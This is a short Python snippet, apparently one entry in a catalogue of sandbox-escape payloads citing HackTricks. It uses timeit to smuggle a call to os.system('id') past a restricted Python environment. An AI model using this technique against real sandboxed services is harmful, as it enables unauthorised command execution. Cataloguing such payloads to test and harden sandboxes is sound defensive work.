# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (__import__('timeit').timeit(...))
# Family: builtins-route
# What: timeit compiles and runs a statement string
import timeit
timeit.timeit("__import__('os').system('id')", number=1)
